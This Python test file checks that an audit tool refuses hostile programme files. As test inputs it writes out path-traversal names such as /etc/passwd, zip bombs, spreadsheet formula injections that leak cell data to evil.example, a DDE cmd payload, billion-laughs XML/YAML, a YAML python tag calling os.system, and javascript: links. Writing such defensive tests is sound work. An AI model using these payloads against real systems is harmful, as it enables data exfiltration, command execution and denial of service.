"""Hostile programme files: each is refused with exit code 2 and a sentence, in bounded time and memory."""

import io
import os
import tempfile
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from support_programmes import SMALL, damaged_inside, write

from impact.cli import main
from impact.errors import StudyError
from impact.programme import read_programme
from impact.programme.disk import MAX_UNPACKED
from impact.programme.reading import programme_from
from impact.programme.writing import to_workbook, to_yaml
from impact.study import yaml_file

SECONDS = 20  # far more than any refusal takes, also on a slow machine


def refused(path):
    start = time.monotonic()
    with pytest.raises(StudyError) as caught:
        read_programme(path)
    assert caught.value.exit_code == 2
    assert time.monotonic() - start < SECONDS
    assert main(["audit", str(path)]) == 2
    folder = path if path.is_dir() else path.parent
    assert not list(folder.glob("self-check*"))
    return str(caught.value)


@pytest.mark.parametrize("name", ["../secret.txt", "/etc/passwd", "documents/../../secret.txt", "C:\\secret.txt",
                                  "..\\secret.txt", "\\\\server\\share\\x"])
def test_a_path_out_of_the_folder_is_refused(name, tmp_path):
    text = SMALL.replace("file: documents/market.txt", f"file: '{name}'")
    assert "leaves the programme's folder" in refused(write(tmp_path, text))


@pytest.mark.parametrize("key", ["study", "results"])
def test_files_of_interventions_stay_in_the_folder_too(key, tmp_path):
    text = SMALL.replace("  status: active", f"  status: active\n  {key}: ../../etc/passwd")
    assert "leaves the programme's folder" in refused(write(tmp_path, text))


def test_a_link_out_of_the_folder_is_refused_and_not_followed(tmp_path):
    (tmp_path / "outside.txt").write_text("not for this programme")
    file = write(tmp_path / "inside")
    target = file.parent / "documents" / "market.txt"
    target.unlink()
    target.symlink_to(tmp_path / "outside.txt")
    assert "is a link that leads out of the programme folder" in refused(file)
    target.unlink()
    target.parent.rmdir()
    (tmp_path / "market.txt").write_text("x")
    target.parent.symlink_to(tmp_path)
    assert "is a link that leads out" in refused(file)


def test_a_link_in_a_circle_and_a_pipe_are_refused(tmp_path):
    file = write(tmp_path)
    target = tmp_path / "documents" / "market.txt"
    target.unlink()
    target.symlink_to(target)
    assert "market.txt" in refused(file)
    target.unlink()
    os.mkfifo(target)
    assert "is not a regular file" in refused(file)


def bomb(path, names=("xl/worksheets/sheet1.xml",), megabytes=100):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for name in names:
            with packed.open(name, "w") as stream:
                for _ in range(megabytes):
                    stream.write(b"\0" * 1_000_000)


@pytest.mark.parametrize("kind", ["xlsx", "docx", "zip"])
def test_a_packed_bomb_in_the_register_is_refused_before_it_is_opened(kind, tmp_path):
    file = write(tmp_path, SMALL.replace("market.txt", f"market.{kind}"))
    bomb(tmp_path / "documents" / f"market.{kind}")
    assert "as a file made to exhaust a computer does; it is not opened" in refused(file)


def test_a_bomb_as_the_programme_workbook_is_refused(tmp_path):
    bomb(tmp_path / "programme.xlsx")
    assert "made to exhaust a computer" in refused(tmp_path)
    bomb(tmp_path / "programme.xlsx", names=[f"part{i}.xml" for i in range(30)], megabytes=1)
    assert "Excel workbook" in refused(tmp_path)
    assert MAX_UNPACKED >= 10**8


def workbook(tmp_path, change):
    book_file = tmp_path / "programme.xlsx"
    book_file.write_bytes(to_workbook(read_programme(write(tmp_path))))
    (tmp_path / "programme.yaml").unlink()
    book = openpyxl.load_workbook(book_file)
    change(book)
    book.save(book_file)
    return tmp_path


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "=cmd|'/c calc'!A0",
                                     '=WEBSERVICE("http://evil.example")'])
def test_a_formula_in_a_cell_is_refused_with_its_place(formula, tmp_path):
    def change(book):
        book["documents"]["B2"] = formula
        book["programme"]["B2"] = formula
    told = refused(workbook(tmp_path, change))
    assert "sheet documents, row 2, cell B2: the cell holds a formula (=" in told
    assert "sheet programme, row 2, cell B2: the cell holds a formula" in told
    assert "paste them as values" in told


def test_a_formula_as_text_is_refused_in_yaml_and_excel(tmp_path):
    text = SMALL.replace("title: Market study", "title: '=HYPERLINK(\"http://evil.example\")'").replace(
        "[Fund A, Fund B]", "['=1+1', Fund B]")
    told = refused(write(tmp_path, text))
    assert "documents[0].title: the text begins with '=', as a spreadsheet formula" in told
    assert "donors[0]: the text begins with '='" in told

    def change(book):
        book["documents"]["B2"].value = "=HYPERLINK(1)"
        book["documents"]["B2"].data_type = "s"
    (tmp_path / "b").mkdir()
    assert "the text begins with '='" in refused(workbook(tmp_path / "b", change))


def test_errors_and_endless_texts_in_cells_are_refused(tmp_path):
    def change(book):
        book["documents"]["B2"] = "#REF!"
        book["documents"]["B3"] = "x" * 20_000
    told = refused(workbook(tmp_path, change))
    assert "the cell holds the error #REF!" in told
    assert "the text is longer than 5,000 characters" in told


def repacked(folder, **parts):
    file = folder / "programme.xlsx"
    with zipfile.ZipFile(file) as old:
        content = {name: old.read(name) for name in old.namelist()}
    content.update(parts.pop("parts"))
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name, part in content.items():
            new.writestr(name, part)
    return folder


def test_entities_macros_and_a_broken_workbook_are_refused(tmp_path):
    laughs = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    folder = repacked(workbook(tmp_path, lambda book: None), parts={"xl/sharedStrings.xml": laughs})
    assert "defines entities" in refused(folder)
    wide = laughs.decode().encode("utf-16")
    assert "defines entities" in refused(repacked(folder, parts={"xl/sharedStrings.xml": wide}))
    (tmp_path / "m").mkdir()
    folder = repacked(workbook(tmp_path / "m", lambda book: None), parts={"xl/vbaProject.bin": b"x"})
    assert "macros" in refused(folder)
    (folder / "programme.xlsx").write_bytes(b"PK\x03\x04 not a workbook")
    assert "does not open as an Excel workbook" in refused(folder)
    (tmp_path / "n").mkdir()
    broken = {"xl/worksheets/sheet3.xml": b"<worksheet><sheetData><row"}
    folder = repacked(workbook(tmp_path / "n", lambda book: None), parts=broken)
    assert "Excel" in refused(folder)


def test_a_sheet_that_claims_or_holds_too_much_is_refused(tmp_path):
    def change(book):
        for row in range(2, 5_200):
            book["costs"].cell(row, 1, "x")
    assert "more than 5,000 rows" in refused(workbook(tmp_path, change))
    (tmp_path / "w").mkdir()

    def wide(book):
        book["costs"].cell(2, 200, "x")
    assert "over 80 columns" in refused(workbook(tmp_path / "w", wide))


def test_thousands_of_problems_are_counted_not_listed(tmp_path):
    def change(book):
        for row in range(2, 2_000):
            book["costs"].cell(row, 2, "x")
    told = refused(workbook(tmp_path, change)).splitlines()
    assert len(told) == 302
    assert "5,694 further problems are not listed. Put these right first." in told[-1]


def test_ten_megabytes_of_yaml_are_refused(tmp_path):
    assert "larger than 4,000,000 bytes" in refused(write(tmp_path, SMALL + "# " + "x" * 10_000_000))
    assert "larger than 4,000,000 bytes. A programme file holds words" in refused(
        write(tmp_path, SMALL + "costs:\n" + "- {date: 2024-01-01, kind: actual, amount: 1}\n" * 250_000))


def test_billion_laughs_deep_nesting_and_tags_are_refused(tmp_path):
    lines = ["a0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    assert "aliases" in refused(write(tmp_path, "\n".join(lines)))
    assert "nested too deeply" in refused(write(tmp_path, "a: " + "[" * 5_000))
    assert "nested too deeply or too long" in refused(write(tmp_path, "donors: [" + "a, " * 250_000 + "a]"))
    assert "tags such as" in refused(write(tmp_path, "name: !!python/object/apply:os.system ['true']\nas_of: 2026-06-30"))


@pytest.mark.parametrize(("formula", "told"), [
    ("farms / 0", "divides by zero"), ("farms / (extra - 120)", "divides by zero"), ("9 ^ 9 ^ 9", "two ways"),
    ("farms ^ 999999999", "is larger than 100"), ("10 ** 99", "passes 1,000,000,000,000,000"),
    ("__import__('os').system('true')", "has no meaning in a formula"), ("(" * 100 + "1", "too many"),
    ("1" * 3000, "longer")])
def test_formulas_that_would_crash_are_refused(formula, told, tmp_path):
    text = SMALL.replace("farms * extra * (1 - 12.5%) + 0.5", f'"{formula}"')
    found = refused(write(tmp_path, text))
    assert "projections[0].formula" in found
    assert told in found


@pytest.mark.parametrize("link", ["javascript:alert(1)", "file:///etc/passwd", "https://a b", "data:text/html,x", "https://x\"><script>"])
def test_links_are_web_addresses_and_never_opened(link, tmp_path):
    text = SMALL.replace("'https://example.org/sheet'", "'" + link.replace("'", "''") + "'")
    assert "is not a web address" in refused(write(tmp_path, text))


@pytest.mark.parametrize("way", ["packed bytes", "text", "cut"])
def test_a_workbook_damaged_in_one_sheet_is_refused_in_words(way, tmp_path):
    file = tmp_path / "p.xlsx"
    name = "xl/worksheets/sheet2.xml"
    if way == "packed bytes":
        file.write_bytes(damaged_inside(BOOK, name))
        assert "the file does not open as an Excel workbook" in refused(file)
        return
    with zipfile.ZipFile(io.BytesIO(BOOK)) as old, zipfile.ZipFile(file, "w") as new:
        for entry in old.namelist():
            part = old.read(entry)
            broken = part[:-40] if way == "cut" else part.replace(b"</row>", b"</raw>")
            new.writestr(entry, broken if entry == name else part)
    assert "a sheet cannot be read (ParseError)" in refused(file)


def test_a_number_that_is_no_date_is_refused_at_its_cell(tmp_path):
    file = tmp_path / "p.xlsx"
    file.write_bytes(BOOK)
    book = openpyxl.load_workbook(file)
    book["programme"]["B3"].value = -693594  # the day of the self-check; before the first date there is
    book.save(file)
    told = refused(file)
    assert "sheet programme, row 3, cell B3: the cell holds the error #VALUE!" in told


def test_odd_names_and_numbers_are_refused(tmp_path):
    text = SMALL.replace("id: D02", "id: '../x'").replace("value: 40}", "value: .inf}").replace(
        "version: '1.10'", "sha256: abc")
    told = refused(write(tmp_path, text))
    for part in ("'../x' is not a code", "'inf' is not at least", "this is not a sha256 fingerprint"):
        assert part in told
    assert "control character" in refused(write(tmp_path, SMALL.replace("Small programme", '"a\\u0007b"')))


def places(value, path=()):
    """Give the path of every value of a tree."""
    yield path
    for key, inner in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from places(inner, (*path, key))


ODD = st.one_of(st.none(), st.booleans(), st.integers(-10**20, 10**20), st.floats(), st.text(max_size=30), st.dates(),
                st.just([]), st.just({}), st.lists(st.text(max_size=5), max_size=3), st.just([[["deep"]]]), st.just([None]),
                st.dictionaries(st.text(max_size=8), st.integers(), max_size=2),
                st.sampled_from(["D01", "D01 p. 1", "=1", "seed", "a/0"]))
WHOLE = yaml.safe_load(SMALL)
PLACES = sorted(places(WHOLE), key=str)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(PLACES), ODD), min_size=1, max_size=4))
def test_any_value_anywhere_is_read_or_refused_in_words(changes):
    tree = yaml.safe_load(SMALL)
    for path, value in changes:
        here = tree
        try:
            for key in path[:-1]:
                here = here[key]
            if path:
                here[path[-1]] = value
            else:
                tree = value
        except (KeyError, IndexError, TypeError):  # an earlier change took the place away
            continue
    try:
        programme = programme_from(yaml_file.Document(name="programme.yaml", tree=tree))
    except StudyError as error:
        assert all(problem.where and problem.what for problem in error.problems)  # noqa: PT017
        str(error).encode("utf-8")
    else:
        with tempfile.TemporaryDirectory() as folder:
            file = Path(folder) / "copy.xlsx"
            file.write_bytes(to_workbook(programme))
            assert read_programme(file) == programme
            file = Path(folder) / "copy.yaml"
            file.write_text(to_yaml(programme), encoding="utf-8")
            assert read_programme(file) == programme


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["programme", "documents", "chains.boxes", "projections.inputs"]),
                          st.integers(1, 4), st.integers(1, 9), st.one_of(
                              st.none(), st.booleans(), st.integers(-10**9, 10**9), st.text("abc =+;\n'\"éß€", max_size=12),
                              st.dates(), st.floats(allow_nan=False, allow_infinity=False))), min_size=1, max_size=6))
def test_any_cell_is_read_or_refused_in_words(changes):
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "p.xlsx"
        file.write_bytes(BOOK)
        book = openpyxl.load_workbook(file)
        for sheet, row, column, value in changes:
            book[sheet].cell(row, column).value = value
        book.save(file)
        try:
            read_programme(file)
        except StudyError as error:
            assert all(problem.where.startswith(("sheet ", "p.xlsx")) for problem in error.problems)  # noqa: PT017


BOOK = to_workbook(programme_from(yaml_file.parse_yaml(SMALL)))


SIGNS = st.one_of(st.characters(exclude_categories=("Cs", "Cc")), st.sampled_from("\n\t\x85\u2028 ;:#&*!|>%@`-=+\"'_x0D"))


@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(SIGNS, min_size=1, max_size=10), min_size=5, max_size=5),
       st.floats(allow_nan=False, allow_infinity=False))
def test_any_text_and_number_is_the_same_through_yaml_and_excel(texts, number):
    tree = yaml.safe_load(SMALL)
    tree["name"], tree["documents"][0]["title"], tree["donors"] = texts[0], texts[1], texts[2:4]
    tree["chains"][0]["boxes"][0]["text"], tree["projections"][0]["value"] = texts[4], number
    try:
        programme = programme_from(yaml_file.Document(name="p.yaml", tree=tree))
    except StudyError:
        return
    with tempfile.TemporaryDirectory() as folder:
        for name, content in (("c.xlsx", to_workbook(programme)), ("c.yaml", to_yaml(programme).encode("utf-8"))):
            (Path(folder) / name).write_bytes(content)
            assert read_programme(Path(folder) / name) == programme


BOOK_PARTS = {"xl/workbook.xml": b'<workbook><sheets><sheet name="Women" r:id="rId1"/></sheets></workbook>',
              "xl/_rels/workbook.xml.rels": b'<Relationship Id="rId1" Target="worksheets/sheet1.xml"/>',
              "xl/worksheets/sheet1.xml": b"<v>1</v>"}
UNCLOSED = {  # each took hours when a pattern could run over the next tag or line
    "rows.xlsx": {**BOOK_PARTS, "xl/worksheets/sheet1.xml": b"<v>1</v>" + b"<row " * 500_000},
    "links.xlsx": {**BOOK_PARTS, "xl/_rels/workbook.xml.rels": b"<Relationship " * 500_000},
    "sheets.xlsx": {**BOOK_PARTS, "xl/workbook.xml": b"<sheet " * 500_000},
    "dates.docx": {"docProps/core.xml": b"<dcterms:created" * 300_000, "word/document.xml": b"<w:t>x</w:t>"},
    "words.docx": {"word/document.xml": b"<w:t>x</w:t>" + b"<w:t" * 500_000},
    "lines.txt": b"x" + b"\n" * 400_000, "marks.txt": b"x\n" + b"# " * 400_000,
    "streams.pdf": b"%PDF-1.4\n" + b"stream\n" * 500_000, "brackets.pdf": b"%PDF-1.4\n" + b"\\(" * 1_000_000,
    "names.csv": b"name;" * 20_000 + b"\n" + b"1;" * 20_000,
}


@pytest.mark.parametrize("name", UNCLOSED)
def test_a_document_made_to_be_read_again_and_again_is_read_once(name, tmp_path):
    text = SMALL.replace("market.txt", name).replace("D01 p. 1", "D01 sheet Women row 3").replace(
        "serves: [", "personal_data: false, serves: [")
    file, content = write(tmp_path, text), UNCLOSED[name]
    if isinstance(content, bytes):
        (tmp_path / "documents" / name).write_bytes(content)
    else:
        with zipfile.ZipFile(tmp_path / "documents" / name, "w", zipfile.ZIP_DEFLATED) as packed:
            for part, inside in content.items():
                packed.writestr(part, inside)
    start = time.monotonic()
    assert main(["audit", str(file), "--out", str(tmp_path / "out"), "--evidence-room", str(tmp_path / "room.zip")]) == 0
    assert time.monotonic() - start < SECONDS
